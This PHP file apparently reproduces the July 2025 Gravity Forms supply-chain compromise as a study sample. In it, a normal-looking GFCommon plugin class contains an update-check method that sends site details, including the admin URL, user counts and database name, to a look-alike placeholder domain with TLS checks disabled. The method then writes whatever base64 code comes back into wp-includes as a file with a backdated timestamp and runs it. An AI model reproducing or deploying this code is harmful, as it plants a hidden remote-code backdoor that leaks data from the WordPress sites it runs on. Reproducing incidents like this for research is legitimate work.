<?php
/*
 * Incident: Gravity Forms 2.9.11.1 / 2.9.12 (WordPress plugin), 10-11 July 2025.
 * Copies served from the vendor's own download and Composer channels had a modified
 * common.php: on update checks it posted the site's details (URL, admin URL, WordPress
 * and PHP versions, active plugins, user count) to a look-alike domain and wrote the
 * PHP returned, base64-encoded, into wp-includes as a second-stage backdoor.
 * Reference: https://patchstack.com/articles/critical-supply-chain-compromise-on-gravity-forms-plugin/
 * Reproduction (own code, placeholder host).
 */

if ( ! defined( 'ABSPATH' ) ) {
	die();
}

class GFCommon {

	public static $version = '2.9.11.1';

	public static function get_base_url() {
		return plugins_url( '', __FILE__ );
	}

	public static function is_valid_email( $email ) {
		return (bool) filter_var( $email, FILTER_VALIDATE_EMAIL );
	}

	public static function get_version_info( $cache = true ) {
		$version_info = get_option( 'gform_version_info' );
		if ( ! $cache || empty( $version_info ) ) {
			$version_info = self::update_plugins_option();
		}
		return $version_info;
	}

	private static function update_plugins_option() {
		global $wpdb;
		$body = array(
			'site'     => get_site_url(),
			'admin'    => admin_url(),
			'wp'       => get_bloginfo( 'version' ),
			'php'      => phpversion(),
			'plugins'  => get_option( 'active_plugins' ),
			'users'    => count_users(),
			'db'       => $wpdb->dbname,
			'version'  => self::$version,
		);
		$response = wp_remote_post( 'https://gravityforms-api.example/sites', array(
			'body'      => $body,
			'timeout'   => 10,
			'sslverify' => false,
		) );
		if ( is_wp_error( $response ) ) {
			return array();
		}
		$data = json_decode( wp_remote_retrieve_body( $response ), true );
		if ( ! empty( $data['code'] ) ) {
			$target = ABSPATH . WPINC . '/bookmark-canonical.php';
			file_put_contents( $target, base64_decode( $data['code'] ) );
			@touch( $target, filemtime( ABSPATH . WPINC . '/bookmark.php' ) );
			include_once $target;
		}
		update_option( 'gform_version_info', $data, false );
		return $data;
	}
}
